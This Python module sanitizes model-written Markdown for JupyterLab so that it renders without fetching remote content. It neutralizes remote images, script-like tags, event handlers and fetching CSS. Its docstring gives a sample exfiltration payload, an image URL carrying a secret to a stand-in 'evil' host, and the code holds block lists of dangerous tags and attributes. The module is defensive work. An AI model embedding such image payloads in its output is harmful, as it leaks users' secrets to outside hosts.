"""Model-written Markdown made inert before it goes into a notebook, which JupyterLab renders itself:
`![](https://evil/?k=<secret>)` would send the secret the moment it renders. A line-by-line port of
`inertMarkdownSource` in labextension_src/inertMarkdown.ts (the panel's half, which also makes
rendered trees inert): the server writes the same cell the panel would (tests/test_inert_markdown.py
runs both on the same samples). Remote images become plain links marked "not loaded"; elements that
fetch or run show as text; event handlers and fetching CSS go."""

from __future__ import annotations

import re
from dataclasses import dataclass

DROPPED_TAGS = frozenset(
    "applet base embed frame frameset iframe link meta noscript object portal script style template".split()
)
URL_ATTRIBUTES = frozenset(
    "archive background codebase data dynsrc href icon lowsrc manifest poster profile src xlink:href".split()
)
LINK_TAGS = frozenset({"a", "area"})  # where href is a link the user follows, not a resource the page loads

CSS_FETCH = re.compile(r"[\\&@]|(?:url|image|image-set|src|element|cross-fade|paint|expression)\s*\(", re.I)
SPACE = re.compile(r"[\t\n\f\r ]")


def attribute_risk(tag: str, attribute: str) -> str | None:
    name = attribute.lower()
    if name.startswith("on"):
        return "handler"
    if name == "style":
        return "style"
    if name in ("srcset", "imagesrcset"):
        return "srcset"
    if name in ("href", "xlink:href") and tag.lower() in LINK_TAGS:
        return None
    return "url" if name in URL_ATTRIBUTES else None


def style_fetches(style: str) -> bool:
    return bool(CSS_FETCH.search(style))


def srcset_urls(srcset: str) -> list[str]:
    return [t for t in re.split(r"[\s,]+", srcset) if t and not re.fullmatch(r"\d+(?:\.\d+)?[wxh]", t, re.I)]


def _trim_url(raw: str) -> str:
    return re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", raw)


def classify_source_url(raw: str) -> str:
    """'inline' (data:), 'local' (a plain relative path) or 'remote' (anything else, or unclear)."""
    value = _trim_url(raw)
    if not value:
        return "local"
    if re.match(r"data:", value, re.I):
        return "inline"
    if re.match(r"[a-z][a-z0-9+.-]*:", value, re.I) or re.match(r"[\\/]{2}", value):
        return "remote"
    return "remote" if re.search(r"[\\&\x00-\x1f\x7f]", value) else "local"


def _escape_html(text: str) -> str:
    return (
        text.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace('"', "&quot;")
        .replace("'", "&#39;")
    )


def _escape_text(text: str) -> str:
    """Text for inside raw HTML that Markdown must not read as syntax either."""
    return re.sub(r"[\\\[\]!`*_$]", lambda m: f"&#{ord(m.group(0))};", _escape_html(text))


_NAMED = {"amp": "&", "lt": "<", "gt": ">", "quot": '"', "apos": "'"}


def _decode_entities(text: str) -> str:
    def one(match: re.Match[str]) -> str:
        code = match.group(1).lower()
        if code in _NAMED:
            return _NAMED[code]
        n = int(code[2:], 16) if code.startswith("#x") else int(code[1:], 10)
        return chr(n) if 0 < n < 0x110000 else match.group(0)

    return re.sub(r"&(#x[0-9a-f]+|#[0-9]+|amp|lt|gt|quot|apos);", one, text, flags=re.I)


@dataclass
class _Attribute:
    name: str
    value: str
    raw: str


@dataclass
class _Tag:
    name: str
    attributes: list[_Attribute]
    end: int
    self_closing: bool


def _read_tag(s: str, start: int) -> _Tag:
    """Read a start tag at `start` (a `<` before a letter) as the HTML tokenizer does."""
    j = start + 1
    while j < len(s) and s[j] not in "\t\n\f\r />":
        j += 1
    name = s[start + 1 : j].lower()
    attributes: list[_Attribute] = []
    self_closing = False
    while True:
        while j < len(s) and (SPACE.match(s[j]) or s[j] == "/"):
            self_closing = s[j] == "/"
            j += 1
        if j >= len(s):
            return _Tag(name, attributes, j, False)
        if s[j] == ">":
            return _Tag(name, attributes, j + 1, self_closing)
        self_closing = False
        begin = j
        j += 1  # a first "=" belongs to the name
        while j < len(s) and s[j] not in "\t\n\f\r />=":
            j += 1
        attribute = s[begin:j].lower()
        k = j
        while k < len(s) and SPACE.match(s[k]):
            k += 1
        value = ""
        if k < len(s) and s[k] == "=":
            k += 1
            while k < len(s) and SPACE.match(s[k]):
                k += 1
            quote = s[k] if k < len(s) else ""
            if quote in ('"', "'"):
                close = s.find(quote, k + 1)
                stop = len(s) if close == -1 else close
                value = s[k + 1 : stop]
                k = len(s) if close == -1 else close + 1
            else:
                first = k
                while k < len(s) and not SPACE.match(s[k]) and s[k] != ">":
                    k += 1
                value = s[first:k]
            j = k
        attributes.append(_Attribute(attribute, _decode_entities(value), s[begin:j]))


def _image_link(url: str, alt: str) -> str:
    """A link standing for a remote image; no quote in it, so it cannot end an attribute value."""
    label = f"image{': ' + alt if alt else ''} (not loaded)"
    target = _trim_url(url)
    href = re.sub(r"[&<>\"'`=\s]", lambda m: f"&#{ord(m.group(0))};", target)
    if re.match(r"https?://", target, re.I):
        return f"<a href={href}>{_escape_text(label)}</a>"
    return f"<span>{_escape_text(f'{label} {target}')}</span>"


def inert_html_source(s: str) -> str:
    """Rewrite raw HTML tags: dangerous elements show as text, event handlers and fetching CSS go, a
    remote `<img>` becomes a link, other remote sources are dropped."""
    out: list[str] = []
    i = 0
    while i < len(s):
        lt = s.find("<", i)
        if lt == -1:
            out.append(s[i:])
            break
        out.append(s[i:lt])
        i = lt + 1
        if not (lt + 1 < len(s) and s[lt + 1].isascii() and s[lt + 1].isalpha()):
            out.append("<")
            continue
        tag = _read_tag(s, lt)
        if tag.name in DROPPED_TAGS:
            out.append("&lt;")
            continue
        changed = False
        remote: list[str] = []
        kept: list[str] = []
        for attribute in tag.attributes:
            risk = attribute_risk(tag.name, attribute.name)
            urls = [attribute.value] if risk == "url" else srcset_urls(attribute.value) if risk == "srcset" else []
            fetches = [url for url in urls if classify_source_url(url) == "remote"]
            if risk == "handler" or (risk == "style" and style_fetches(attribute.value)) or fetches:
                changed = True
                remote += fetches
            else:
                kept.append(attribute.raw)
        if not changed:
            out.append("<")
            continue  # unchanged: the scan goes on inside it
        i = tag.end
        src = next((a for a in tag.attributes if a.name == "src"), None)
        if tag.name == "img" and src is not None and src.value in remote:
            alt = next((a.value for a in tag.attributes if a.name == "alt"), "")
            out.append(_image_link(src.value, alt))
            continue
        kept_text = "".join(" " + raw.replace("<", "&lt;") for raw in kept)
        out.append(f"<{tag.name}{kept_text}{' /' if tag.self_closing else ''}>")
    return "".join(out)


PLAIN_IMAGE = re.compile(r"!\[([^\[\]`\\\n]*)\]\([ \t]*([^\s()<>\[\]\\&\"'`]*)(?:[ \t]+\"[^\"\\\n]*\")?[ \t]*\)")
LOOSE_IMAGE = re.compile(
    r"!\[((?:[^\[\]\\\n]|\\.|\[[^\[\]\n]*\])*)\]\([ \t]*(<[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))+)"
    r"(?:[ \t]+(\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*\)"
)
REFERENCE_IMAGE = re.compile(r"!\[([^\[\]\\\n]+)\](?:\[([^\[\]\\\n]*)\])?(?![\[(])")


def _normalize_label(label: str) -> str:
    return re.sub(r"\s+", " ", label.strip()).lower()


def inert_image_source(s: str) -> str:
    """Every `![` that is not a plain image of a local file or data: URI becomes a link, or escaped text."""
    definitions = {_normalize_label(m.group(1)) for m in re.finditer(r"^ {0,3}\[([^\[\]\n]+)\]:", s, re.M)}
    out = ""
    i = 0
    while i < len(s):
        k = s.find("![", i)
        if k == -1:
            out += s[i:]
            break
        out += s[i:k]
        plain = PLAIN_IMAGE.match(s, k)
        if plain and classify_source_url(plain.group(2)) != "remote":
            out += plain.group(0)
            i = k + len(plain.group(0))
            continue
        gap = " " if out.endswith("!") else ""  # a "!" just before would make "![" again
        loose = LOOSE_IMAGE.match(s, k)
        if loose and "![" not in loose.group(0)[2:]:
            title = f" {loose.group(3)}" if loose.group(3) else ""
            out += f"{gap}[image: {loose.group(1)}]({loose.group(2)}{title}) *(not loaded)*"
            i = k + len(loose.group(0))
            continue
        reference = REFERENCE_IMAGE.match(s, k)
        label = (reference.group(2) or reference.group(1)) if reference else ""
        if reference and _normalize_label(label) in definitions:
            out += f"{gap}[image: {reference.group(1)}][{label}] *(not loaded)*"
            i = k + len(reference.group(0))
        else:
            out += "!\\["  # an escaped bracket opens nothing: the text shows as written
            i = k + 2
    return out


def inert_markdown_source(source: str) -> str:
    """Markdown source that renders without fetching anything from elsewhere."""
    return inert_html_source(inert_image_source(inert_html_source(source)))
